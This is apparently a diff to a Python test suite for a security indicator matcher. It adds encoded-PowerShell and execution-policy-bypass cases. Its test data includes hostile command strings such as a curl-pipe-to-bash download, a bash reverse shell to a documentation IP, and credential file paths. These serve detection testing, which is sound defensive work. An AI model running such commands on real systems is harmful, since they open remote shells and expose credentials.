@@ -64,6 +64,8 @@ def test_matcher_exact_and_prefix() -> None:
         ("https://files.example.invalid/setup.exe", "download.executable"),
         ("curl -s https://x.invalid/i | bash", "shell.download-exec"),
         ("powershell -w hidden -c x", "shell.encoded-powershell"),
+        ("powershell -ExecutionPolicy Bypass -EncodedCommand SQBuAHYAbwBrAGUALQBFAHgA", "shell.encoded-powershell"),
+        ("powershell -NoProfile -ExecutionPolicy Bypass -File a.ps1", "shell.powershell-bypass"),
         ("bash -i >& /dev/tcp/203.0.113.1/9001 0>&1", "shell.reverse"),
         ("AppData\\Local\\Google\\Chrome\\User Data\\Default", "creds.browser"),
         ("~/.aws/credentials", "creds.cloud"),
@@ -73,6 +75,11 @@ def test_matcher_exact_and_prefix() -> None:
 )
 def test_indicators_found(text: str, kind: str) -> None:
     assert kind in {k for k, _ in find_indicators(text)}
+
+
+def test_a_bypassed_policy_alone_is_not_a_hidden_command() -> None:
+    kinds = {k for k, _ in find_indicators("powershell -NoProfile -ExecutionPolicy Bypass -File a.ps1")}
+    assert "shell.encoded-powershell" not in kinds
 
 
 @pytest.mark.parametrize(
